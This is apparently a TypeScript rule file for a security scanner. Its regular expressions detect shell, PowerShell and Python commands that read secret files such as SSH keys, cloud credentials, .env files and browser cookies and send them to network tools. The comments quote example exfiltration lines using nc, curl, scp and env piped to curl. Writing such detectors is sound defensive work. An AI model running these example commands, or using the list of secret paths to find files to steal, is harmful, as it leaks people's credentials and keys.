import { frag, type Rule, rx } from "../rule.js";

const { s } = frag;

// Command-shaped exfiltration: a shell (or PowerShell, or Python one-liner)
// command that reads a secret-bearing file and ships it to a network sink in
// the same command line. Naming a secret path is everyday documentation
// ("AWS keeps keys in ~/.aws/credentials"), and so is every sink on its own
// ("curl -d @payload.json", "scp report.pdf host:"): only the two joined in
// one command make the finding.

// The end of one path token: what a shell would not read as part of it.
const tokenEnd = String.raw`(?![^\s"'\x60|;&<>)])`;
// A file or directory a secret lives in, as the last part of a path. Public
// keys (*.pub), known_hosts, ssh config and template env files are not secret.
const secretName = String.raw`(?:\.ssh(?:[/\\](?!(?:config|known_hosts|authorized_keys|environment)\b|[a-z0-9_.-]{1,40}\.pub\b)[a-z0-9_.-]{1,40}|[/\\]?${tokenEnd})|id_(?:rsa|dsa|ecdsa|ed25519)[a-z0-9_-]{0,30}(?![a-z0-9_-]|\.pub\b)|\.(?:aws|kube|gnupg|password-store)(?:[/\\]?${tokenEnd})|\.aws[/\\]credentials\b|\.kube[/\\]config\b|\.docker[/\\]config\.json\b|\.config[/\\](?:gcloud\b|gh[/\\]hosts\.yml\b)|(?:application_default_credentials\.json|access_tokens\.db|credentials\.db|credentials\.tfrc\.json)\b|[._](?:netrc|git-credentials|npmrc|pypirc|pgpass|vault-token)\b|etc[/\\](?:g?shadow|passwd)\b|ssl[/\\]private\b|[a-z0-9_-]{0,40}\.env(?:\.(?!example|sample|template|dist|defaults?|schema|tpl)[a-z0-9_-]{1,20})?(?![a-z0-9_-]|\.[a-z])|\.envrc\b|\.(?:bash_|zsh_|sh_|python_|psql_|mysql_)?history\b|(?:fish_history|consolehost_history\.txt)\b|proc[/\\](?:self|\d{1,7}|\$\$)[/\\]environ\b|(?<=[/\\])(?:cookies(?:\.sqlite|\.binarycookies)?|login${s}data|login\\ data|logins\.json|key[34]\.db|[a-z0-9_.-]{0,40}\.keychain(?:-db)?|keychains[/\\]?${tokenEnd})(?![a-z0-9_.-])|(?:[a-z0-9_-]{0,40}[_-])?(?:private[_-]?key|privkey|service[_-]?account)[a-z0-9_-]{0,30}\.(?:pem|key|json|p12)\b)`;
// A path ending in a secret name: the directories before it (~/, $HOME/,
// %USERPROFILE%\, /root/, ./), bare or in quotes (where spaces may occur, as
// in Chrome's "User Data/Default/Login Data").
const secretPath = String.raw`(?:["'](?:(?:[^\s"'|;&<>]|\x20(?![-~/$\s])){0,120}[/\\])?|(?:(?:[^\s"'\x60|;&<>()]|\\\x20){0,120}[/\\])?)${secretName}`;
// Programs that read a file to stdout (or pack it) at the head of a pipe.
const reader = String.raw`(?:cat|tac|base64|base32|xxd|od|hexdump|gzip|bzip2|xz|zstd|zcat|tar|zip|7z|head|tail|strings|less|more|type|get-content|gc|openssl|gpg|dd|jq|sed|awk|grep)`;
// Programs that send stdin over the network.
const sink = String.raw`(?:curl|wget|nc|ncat|netcat|socat|telnet|invoke-webrequest|invoke-restmethod|iwr|irm|openssl${s}s_client|sendmail|mailx?|ftp|tftp)`;
// The rest of a command line pipes into a sink (two filters between allowed)
// or redirects into bash's /dev/tcp.
const toSink = String.raw`(?=[^\n|;&]{0,160}(?:>\s{0,4}/dev/(?:tcp|udp)/|\|(?:[^\n|;&]{0,120}\|){0,2}\s{0,4}(?:sudo${s})?${sink}\b))`;
// A copy command's remote target ("user@host:", "host:/tmp/"), later on its line.
const remoteTarget = String.raw`(?=[^\n;&|]{0,240}\s["']?(?:[a-z0-9_.-]{1,64}@)?[a-z0-9][a-z0-9_.-]{1,120}:(?!//))`;

/**
 * Secret files shipped out by a command line: uploaded by curl or wget, copied
 * to a remote host, piped into a network sink.
 *
 * @example
 * secretCommandRules.map((rule) => rule.id);
 */
export const secretCommandRules: readonly Rule[] = [
  {
    id: "exfiltration.secret_file_command",
    category: "exfiltration",
    anchors: [
      "curl",
      "wget",
      "scp",
      "rsync",
      "sftp",
      "printenv",
      "netcat",
      "ncat",
      "socat",
      "telnet",
      "/dev/tcp",
      "/dev/udp",
      "infile",
      "requests.",
      // A file fed to nc or mail names no sink word above: its own name must.
      ".ssh",
      "id_",
      "credentials",
      "/etc/",
      ".env",
      "environ",
      "_history",
      "netrc",
      "npmrc",
      "pypirc",
      "pgpass",
      ".kube",
      ".docker",
      ".gnupg",
      ".aws",
      "gcloud",
      "env |",
      "env|",
    ],
    pattern: rx(
      // An upload flag naming the file: "-F file=@~/.aws/credentials",
      // "--data-binary @.env", "-T id_rsa", "--post-file=/root/.bash_history",
      // or a command substitution reading it: -d "$(cat ~/.netrc)".
      String.raw`(?:\b(?:curl|wget)\b[^\n;&|]{0,160}?(?:[\s=]@|=<|\s-t${s}|--(?:upload|post|body)-file[\s=]{1,4}|\$\(\s{0,4}${reader}${s}(?:-[a-z0-9-]{1,12}${s}){0,3}|\x60${reader}${s}(?:-[a-z0-9-]{1,12}${s}){0,3})`,
      // PowerShell: Invoke-WebRequest -InFile, or a -Body read by Get-Content.
      String.raw`|\b(?:invoke-webrequest|invoke-restmethod|iwr|irm)\b[^\n;|]{0,160}?(?:-infile[\s:]{1,4}|-body${s}\(?\s{0,4}(?:get-content|gc|cat|type)${s}(?:-(?:path|raw)${s}){0,2})`,
      // A copy to a remote host: "scp ~/.ssh/id_ed25519 backup@203.0.113.5:".
      // The key an ssh transport logs in with ("-i ~/.ssh/id_rsa") and a file
      // rsync is told to skip ("--exclude .env") are no payload.
      String.raw`|\b(?:scp|rsync|sftp)\b${remoteTarget}[^\n;&|]{0,160}?\s(?<!\s-[iof]\s{1,4}|identityfile[\s=]{1,4}|--(?:exclude|include|filter)\s{1,4})`,
      // A pipe whose head reads the file and whose tail is a network sink:
      // "tar czf - ~/.ssh | curl --data-binary @- ...", "base64 .env | nc h 9".
      String.raw`|\b${reader}\b${toSink}[^\n|;&]{0,120}?[\s=]`,
      // A sink fed the file on stdin: "nc host 4444 < ~/.ssh/id_rsa".
      String.raw`|\b${sink}\b[^\n|;&]{0,120}?<\s{0,4}`,
      // Python: requests.post(url, data=open("~/.aws/credentials").read()).
      String.raw`|\brequests\.(?:post|put)\([^\n]{0,160}?\bopen\(\s{0,4}(?:os\.path\.expanduser\(\s{0,4})?)${secretPath}`,
      // The whole environment piped out: "env | curl -d @- ...", "printenv | nc h 9".
      String.raw`|\b(?:printenv|env)\s{0,4}(?:\|[^\n|;&]{0,120}){0,2}\|\s{0,4}(?:sudo${s})?${sink}\b`,
    ),
    severity: { default: "high", text: "medium" },
    quotedIsMention: true,
  },
];
